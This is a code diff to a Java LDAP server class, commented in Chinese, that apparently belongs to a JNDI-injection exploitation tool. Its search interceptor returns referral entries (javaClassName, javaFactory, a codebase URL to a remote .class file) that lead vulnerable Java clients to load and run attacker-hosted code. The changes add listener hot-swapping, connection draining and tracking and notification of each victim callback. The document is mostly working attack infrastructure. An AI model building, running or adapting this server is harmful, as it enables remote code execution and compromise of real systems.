@@ -7,7 +7,6 @@ import java.util.concurrent.atomic.AtomicBoolean;
 import java.util.logging.Level;
 import java.util.logging.Logger;
 
-import javax.net.ServerSocketFactory;
 import javax.net.SocketFactory;
 import javax.net.ssl.SSLSocketFactory;
 
@@ -25,43 +24,80 @@ public class LdapService {
     private static final Logger LOGGER = Logger.getLogger(LdapService.class.getName());
     private static final String LDAP_BASE = "dc=example,dc=com";
     private static InMemoryDirectoryServer directoryServer;
+    private static ConnectionTracker connections;
+    private static int listeningPort;
     private static final AtomicBoolean running = new AtomicBoolean(false);
 
+    /**
+     * 启动 LDAP 服务；已在运行时切换到新的端口和 URL
+     * <p>
+     * 切换时先启动新的监听器，再在后台排空旧服务，端口不变时只在关闭旧监听套接字到绑定新套接字之间短暂不可用。
+     */
     public static synchronized void startLdapService(String codebaseUrl, int port) {
-        if (running.compareAndSet(false, true)) {
-            try {
-                URL url = new URL(codebaseUrl);
-                InMemoryDirectoryServerConfig config = new InMemoryDirectoryServerConfig(LDAP_BASE);
-                config.setListenerConfigs(new InMemoryListenerConfig(
-                        "listen",
-                        InetAddress.getByName("0.0.0.0"),
-                        port,
-                        ServerSocketFactory.getDefault(),
-                        SocketFactory.getDefault(),
-                        (SSLSocketFactory) SSLSocketFactory.getDefault()));
-
-                config.addInMemoryOperationInterceptor(new OperationInterceptor(url));
-                directoryServer = new InMemoryDirectoryServer(config);
-                directoryServer.startListening();
-                LOGGER.info("LDAP 服务已启动，监听在 0.0.0.0: " + port);
-            } catch (Exception e) {
-                running.set(false);
-                LOGGER.log(Level.SEVERE, "启动 LDAP 服务失败", e);
-                throw new RuntimeException("无法启动 LDAP 服务", e);
-            }
-        } else {
-            LOGGER.warning("LDAP 服务已在运行");
+        InMemoryDirectoryServer previous = directoryServer;
+        ConnectionTracker previousConnections = connections;
+        int previousPort = listeningPort;
+        if (previous != null && previousPort == port) {
+            // 同一端口不能同时监听，先关闭旧监听套接字
+            previous.shutDown(false);
+            directoryServer = null;
+            running.set(false);
+            ConnectionTracker.drainInBackground("ldap-drain", () -> drain(previous, previousConnections, previousPort));
+        }
+        try {
+            URL url = new URL(codebaseUrl);
+            ConnectionTracker tracker = new ConnectionTracker();
+            InMemoryDirectoryServerConfig config = new InMemoryDirectoryServerConfig(LDAP_BASE);
+            config.setListenerConfigs(new InMemoryListenerConfig(
+                    "listen",
+                    InetAddress.getByName("0.0.0.0"),
+                    port,
+                    AdmissionController.serverSocketFactory(tracker),
+                    SocketFactory.getDefault(),
+                    (SSLSocketFactory) SSLSocketFactory.getDefault()));
+
+            config.addInMemoryOperationInterceptor(new OperationInterceptor(url));
+            InMemoryDirectoryServer server = new InMemoryDirectoryServer(config);
+            server.startListening();
+            directoryServer = server;
+            connections = tracker;
+            listeningPort = port;
+            running.set(true);
+            LOGGER.info("LDAP 服务已启动，监听在 0.0.0.0: " + port);
+        } catch (Exception e) {
+            LOGGER.log(Level.SEVERE, "启动 LDAP 服务失败", e);
+            throw new RuntimeException("无法启动 LDAP 服务", e);
+        }
+        if (previous != null && previousPort != port) {
+            LOGGER.info("LDAP 服务切换: 端口 " + previousPort + " -> " + port + "，旧连接在后台排空");
+            previous.shutDown(false);
+            ConnectionTracker.drainInBackground("ldap-drain", () -> drain(previous, previousConnections, previousPort));
         }
     }
 
+    /**
+     * 停止 LDAP 服务：先停止监听，再在排空期限内等待已有连接结束，超时后强制关闭
+     */
     public static synchronized void stopLdapService() {
         if (running.compareAndSet(true, false)) {
-            if (directoryServer != null) {
-                directoryServer.shutDown(true);
-                directoryServer = null;
-                LOGGER.info("LDAP 服务已停止");
-            }
+            InMemoryDirectoryServer server = directoryServer;
+            directoryServer = null;
+            server.shutDown(false);
+            drain(server, connections, listeningPort);
+        }
+    }
+
+    public static boolean isRunning() {
+        return running.get();
+    }
+
+    private static void drain(InMemoryDirectoryServer server, ConnectionTracker tracker, int port) {
+        if (!tracker.awaitIdle(ConnectionTracker.DRAIN_MILLIS)) {
+            LOGGER.warning("LDAP 端口 " + port + " 上有 " + tracker.active() + " 个连接未在排空期限内结束，强制关闭");
+            tracker.closeAll();
         }
+        server.shutDown(true);
+        LOGGER.info("LDAP 服务已停止（端口 " + port + "）");
     }
 
     private static class OperationInterceptor extends InMemoryOperationInterceptor {
@@ -73,6 +109,7 @@ public class LdapService {
 
         @Override
         public void processSearchResult(InMemoryInterceptedSearchResult result) {
+            Object event = JfrEvents.beginLdapSearch();
             String base = result.getRequest().getBaseDN();
             Entry entry = new Entry(base);
             try {
@@ -80,11 +117,15 @@ public class LdapService {
             } catch (Exception e) {
                 LOGGER.log(Level.WARNING, "处理搜索结果时出错", e);
             }
+            JfrEvents.commitLdapSearch(event, result.getConnectedAddress(), base);
         }
 
         protected void sendResult(InMemoryInterceptedSearchResult result, String base, Entry entry) throws LDAPException, MalformedURLException {
             URL redirectUrl = new URL(this.codebase, this.codebase.getRef().replace('.', '/').concat(".class"));
             LOGGER.info("发送 LDAP 引用结果，重定向到: " + redirectUrl);
+            CallbackCorrelator.recordReferral("LDAP", result.getConnectedAddress(), base, redirectUrl.getPath());
+            CallbackHistory.record(CallbackHistory.Protocol.LDAP, result.getConnectedAddress(), base);
+            HitNotifier.publish(CallbackHistory.Protocol.LDAP, result.getConnectedAddress(), base);
 
             entry.addAttribute("javaClassName", "foo");
 
@@ -99,6 +140,7 @@ public class LdapService {
             entry.addAttribute("javaFactory", this.codebase.getRef());
             result.sendSearchEntry(entry);
             result.setResult(new LDAPResult(0, ResultCode.SUCCESS));
+            JfrEvents.ldapReferralSent(result.getConnectedAddress(), base, cbString, this.codebase.getRef());
         }
     }
 }